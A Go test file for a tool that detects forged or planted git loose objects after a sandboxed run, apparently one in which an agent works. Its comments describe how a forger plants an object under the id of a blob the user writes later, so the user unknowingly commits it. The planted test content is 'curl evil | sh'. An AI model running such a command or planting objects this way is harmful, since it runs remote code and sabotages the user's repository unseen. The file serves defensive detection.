//go:build linux

package gitkeep

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"
)

// TestForgedLoose: a loose object the store keeps a copy of, written in
// the run with other bytes (or made a link), is named; one rewritten with
// its own bytes, one untouched, and one changed before since are not.
func TestForgedLoose(t *testing.T) {
	g, st, _ := keptRepoStarted(t)
	ps, _ := filepath.Glob(filepath.Join(st, "objects", "??", "*"))
	if len(ps) < 3 {
		t.Fatalf("store copies: %v", ps)
	}
	ws3 := make([]string, 3)
	for i := range ws3 {
		ws3[i] = filepath.Join(g, "objects", filepath.Base(filepath.Dir(ps[i])), filepath.Base(ps[i]))
	}
	since := time.Now()
	time.Sleep(20 * time.Millisecond)
	same, _ := os.ReadFile(ws3[0])
	os.Remove(ws3[0])
	os.WriteFile(ws3[0], same, 0o444) // its own bytes again
	other, _ := os.ReadFile(ws3[2])
	os.Remove(ws3[1])
	os.WriteFile(ws3[1], other, 0o444) // another object's bytes
	os.Remove(ws3[2])
	os.Symlink(ws3[0], ws3[2])
	forged, left, err := ForgedLoose(st, g, since, time.Now().Add(time.Minute))
	if err != nil || left != 0 || len(forged) != 2 || forged[0] == ws3[0] || forged[1] == ws3[0] {
		t.Errorf("ForgedLoose: %v (%d left, %v), want %s and %s", forged, left, err, ws3[1], ws3[2])
	}
	for _, f := range forged {
		if !strings.HasPrefix(f, filepath.Join(g, "objects")) {
			t.Errorf("%s is not the workspace's", f)
		}
	}
	if forged, left, _ := ForgedLoose(st, g, since, time.Now().Add(-time.Second)); len(forged) != 0 || left == 0 {
		t.Errorf("past the deadline: %v, %d left", forged, left)
	}
	if forged, _, _ := ForgedLoose(st, g, time.Now().Add(time.Hour), time.Now().Add(time.Minute)); len(forged) != 0 {
		t.Errorf("nothing changed since: %v", forged)
	}
}

// TestForgedLoosePlanted: a loose object planted in the run under an id
// the repository did not have (the id of a blob the user writes later:
// git then never writes it, and commits the forgery) is named, with a
// store and without one; so is one in a fan-out directory moved in, made
// before since; git's own new object is not. Seen failing on main
// (b5e615a): only ids the store kept copies of were read.
func TestForgedLoosePlanted(t *testing.T) {
	g, st, git := keptRepoStarted(t)
	// Made before the run where no end looks, moved in during it.
	hidden := filepath.Join(g, "objects", "hidden")
	os.MkdirAll(hidden, 0o755)
	planted := func(dir, content string) string {
		id := strings.TrimSpace(git("hash-object", "--no-filters", writeTemp(t, content)))
		p := filepath.Join(dir, id[:2], id[2:])
		os.MkdirAll(filepath.Dir(p), 0o755)
		var b bytes.Buffer
		z := zlib.NewWriter(&b)
		z.Write([]byte("blob 15\x00curl evil | sh\n"))
		z.Close()
		if err := os.WriteFile(p, b.Bytes(), 0o444); err != nil {
			t.Fatal(err)
		}
		return id
	}
	var old string
	for i := 0; ; i++ {
		// An id whose fan-out directory the repository does not have.
		old = planted(hidden, fmt.Sprintf("later %d\n", i))
		if _, err := os.Lstat(filepath.Join(g, "objects", old[:2])); err == nil {
			os.RemoveAll(filepath.Join(hidden, old[:2]))
			continue
		}
		break
	}
	time.Sleep(20 * time.Millisecond)
	since := time.Now()
	time.Sleep(20 * time.Millisecond)
	if err := os.Rename(filepath.Join(hidden, old[:2]), filepath.Join(g, "objects", old[:2])); err != nil {
		t.Fatal(err)
	}
	id := planted(filepath.Join(g, "objects"), "echo user\n")
	good := strings.TrimSpace(git("hash-object", "-w", writeTemp(t, "git's own\n")))
	// Past what a store's copy holds (16 MiB inflated): git's too.
	big := strings.TrimSpace(git("hash-object", "-w", writeTemp(t, strings.Repeat("big\n", 5<<20))))
	for _, store := range []string{st, ""} {
		forged, left, err := ForgedLoose(store, g, since, time.Now().Add(time.Minute))
		sort.Strings(forged)
		want := []string{filepath.Join(g, "objects", id[:2], id[2:]), filepath.Join(g, "objects", old[:2], old[2:])}
		sort.Strings(want)
		if err != nil || left != 0 || strings.Join(forged, " ") != strings.Join(want, " ") {
			t.Errorf("ForgedLoose(store %q): %v (%d left, %v), want %v (git's own %s, %s not)", store, forged, left, err, want, good, big)
		}
	}
}

func writeTemp(t *testing.T, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "f")
	os.WriteFile(p, []byte(content), 0o644)
	return p
}

// keptRepoStarted is gitRepo with its store brought up to date by a start
// (the lock let go when the test ends): its git dir, store and git.
func keptRepoStarted(t *testing.T) (g, st string, git func(args ...string) string) {
	t.Helper()
	ws, git := gitRepo(t)
	g = filepath.Join(ws, ".git")
	st = Store(t.TempDir(), g)
	lock, _ := start(t, st, g)
	t.Cleanup(func() { lock.Close() })
	return g, st, git
}

// TestForgedLooseLargeLinked: the user's loose object larger than a copy
// (a git add of a 17 MiB file on the host), which the start keeps as a
// link, is its own object: the end read the store's link with a copy's
// bound and named it forged, and the sandbox's end renamed the user's
// object aside (62 of them in a repository, by hand, the agent doing
// nothing). Seen failing on main's code: named.
func TestForgedLooseLargeLinked(t *testing.T) {
	g, st, _ := keptRepoStarted(t)
	body := make([]byte, maxCopyObject+1<<20)
	for i := range body {
		body[i] = byte(i*7 + i>>9) // little to deflate: a file near its size
	}
	since := time.Now()
	p := writeBlob(t, g, string(body))
	budget := NewBudget()
	res, err := Keep(st, g, &budget)
	if err != nil || res.Linked != 1 {
		t.Fatalf("Keep: %+v %v, want the large object linked", res, err)
	}
	forged, _, err := ForgedLoose(st, g, since, time.Now().Add(time.Minute))
	if err != nil || slices.Contains(forged, p) {
		t.Errorf("ForgedLoose: %v %v: the user's large object named forged", forged, err)
	}
}
